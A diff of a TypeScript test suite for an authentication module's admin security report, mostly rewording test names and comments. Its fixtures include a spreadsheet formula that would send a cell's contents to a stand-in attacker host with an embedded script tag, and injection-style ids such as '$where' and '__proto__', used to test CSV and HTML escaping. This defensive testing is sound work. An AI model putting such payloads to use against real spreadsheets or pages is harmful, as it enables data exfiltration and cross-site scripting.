@@ -31,7 +31,7 @@ const PATH = '/auth/admin/security-report';
 const HOSTILE = '=HYPERLINK("https://evil.example.net/?"&A1,"<script>alert(1)</script>")';
 const TODAY = () => new Date().toISOString().slice(0, 10);
 
-/** As an adopter with helmet runs it, who trusts his proxy. */
+/** Opened like an adopter's application with helmet, behind a trusted proxy. */
 async function open(adapter: 'express' | 'fastify', uri: string, options = authOptions()): Promise<HostApp> {
   const host = await HostApp.startWith(adapter, { imports: [AuthModule.forRoot(options)] }, uri, (app) => {
     app.use(helmet());
@@ -76,13 +76,13 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
   const totalOf = ({ totals }: SecurityReport, name: string) =>
     totals.find(({ type }) => type === name)?.count ?? 0;
 
-  it('has what every instance has counted, this one’s latest events at once', async () => {
+  it('includes the counts of every instance, and this one’s latest events at once', async () => {
     const before = await report();
     const { email, userId } = await newSession(api);
     for (let attempt = 0; attempt < 3; attempt += 1) await api.login({ email, password: 'wrong' });
     await other.api().login({ email, password: 'wrong' });
     await other.api().login({ email: 'nobody@example.com', password: 'wrong' });
-    // The other instance writes what it has counted for its own report.
+    // The other instance writes its counts for its own report.
     expect(totalOf(await report('', other.api()), 'login.failed')).toBeGreaterThanOrEqual(2);
     const after = await report();
     expect(totalOf(after, 'login.failed') - totalOf(before, 'login.failed')).toBe(5);
@@ -101,12 +101,12 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
     expect(after.indexes.map(({ collection }) => collection)).toContain('security_daily');
   });
 
-  it('tells of a reuse with both sides, what was made of it, and no more sessions than live', async () => {
+  it('shows a reuse with both sides, its consequences, and only live sessions', async () => {
     const thief = host.api({ 'user-agent': HOSTILE });
     const first = await newSession(api);
     const { active } = (await report()).sessions;
     await refreshed(api, first);
-    // Within the same millisecond it would be a race of tabs.
+    // Within the same millisecond it would count as a race of tabs.
     await delay(5);
     expectError(await thief.refresh(first.refreshToken), 401, 'REFRESH_TOKEN_REUSED');
     const { reuseCases, sessions } = await report();
@@ -125,7 +125,7 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
     expect((await report('to=2020-01-01')).reuseCases).toEqual([]);
   });
 
-  it('has no address for a user who is gone, and bears ids of any form', async () => {
+  it('has no address for a deleted user, and works with ids of any form', async () => {
     const targets = [new Types.ObjectId().toHexString(), 'nonsense', '$where', '__proto__'];
     await host.connection.collection('security_daily').insertOne({
       _id: '2020-05-05 top other' as never,
@@ -141,7 +141,7 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
     expect(totals.every(({ count }) => count === 0)).toBe(true);
   });
 
-  it('as CSV is a file in which nothing that users typed is a formula', async () => {
+  it("as CSV contains no formula from users' text", async () => {
     const answer = await get(`format=csv&from=${TODAY()}&to=${TODAY()}`);
     expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
     expect(answer.headers['content-disposition']).toBe(
@@ -153,27 +153,27 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
     for (const line of lines) for (const cell of Object.values(line)) expect(cell).not.toMatch(/^[=+\-@]/);
   });
 
-  it('as HTML brings a policy of its own in place of the host’s, and no markup of users', async () => {
+  it('as HTML has its own policy instead of the host’s, and no markup of users', async () => {
     const answer = await get('format=html');
     expect(answer.headers['content-type']).toBe('text/html; charset=utf-8');
     const policy = answer.headers['content-security-policy'] as string;
     expect(policy).toMatch(/^default-src 'none'; .*frame-ancestors 'none'$/);
-    // Helmet's, which other answers have.
+    // Part of helmet's policy, which other answers have.
     expect(policy).not.toContain('upgrade-insecure-requests');
     expect((await get()).headers['content-security-policy']).toContain('upgrade-insecure-requests');
     expect(answer.text).toMatch(/^<!doctype html>/);
     expect(answer.text).not.toContain('<script>alert(1)');
   });
 
-  it('is JSON where no format is named, whatever a browser accepts', async () => {
+  it('is JSON if no format is named, whatever a browser accepts', async () => {
     const answer = await api.send('GET', PATH, { token, headers: { accept: 'text/html' } });
     expect(answer.headers['content-type']).toMatch(/^application\/json/);
     expect(answer.headers['content-disposition']).toBeUndefined();
     expect(answer.json.from < answer.json.to).toBe(true);
   });
 
-  it('tells of every look, with who it was', async () => {
-    // What it was asked for before is counted once it is written.
+  it('logs every read, with the reader', async () => {
+    // Earlier reads are counted once they are written.
     await other.app.get(AuditService).flush();
     const views = async () => totalOf(await report(), 'records.viewed');
     const before = await views();
@@ -185,7 +185,7 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
     expect(events.json.items[0]).not.toHaveProperty('userId');
   });
 
-  it('is for administrators: the same refusal to all others, and whatever they ask for', async () => {
+  it('is for administrators: everyone else gets the same refusal, whatever they ask for', async () => {
     const { accessToken } = await newSession(api);
     for (const query of ['', 'format=csv', 'format=nonsense', 'from=x']) {
       expectError(await api.send('GET', `${PATH}?${query}`, { token: accessToken }), 403, 'FORBIDDEN');
@@ -212,21 +212,21 @@ describe.each(ADAPTERS)('the security report on %s', (adapter) => {
     else expectInvalidField(answer, field);
   });
 
-  it('takes moments, and days to come', async () => {
+  it('accepts moments, and future days', async () => {
     const { from, to } = await report('from=2026-03-01T23:30:00-02:00&to=2026-03-02');
     expect([from, to]).toEqual(['2026-03-02', '2026-03-02']);
     expect((await report('from=9999-12-30&to=9999-12-31')).days).toHaveLength(2);
   });
 
-  it('is there for a host without the route', async () => {
+  it('is available to a host without the route', async () => {
     const made = await host.app.get(SecurityReportService).report({ to: new Date() });
     expect(made.generatedAt).toBeInstanceOf(Date);
     expect(totalOf(made, 'user.registered')).toBeGreaterThan(0);
   });
 });
 
-describe.each(ADAPTERS)('without what it needs, on %s', (adapter) => {
-  it('there is no report where there is no audit log', async () => {
+describe.each(ADAPTERS)('without its requirements, on %s', (adapter) => {
+  it('there is no report without an audit log', async () => {
     const host = await open(adapter, databaseUri('report_off'), authOptions({ audit: false }));
     try {
       const { accessToken: token } = await anotherSession(host.api(), ADMIN);
@@ -236,7 +236,7 @@ describe.each(ADAPTERS)('without what it needs, on %s', (adapter) => {
     }
   });
 
-  it('is unavailable, soon, where the database is away', async () => {
+  it('soon answers that it is unavailable if the database is down', async () => {
     const proxy = await DatabaseProxy.open('report_away');
     const host = await open(adapter, proxy.uri);
     try {
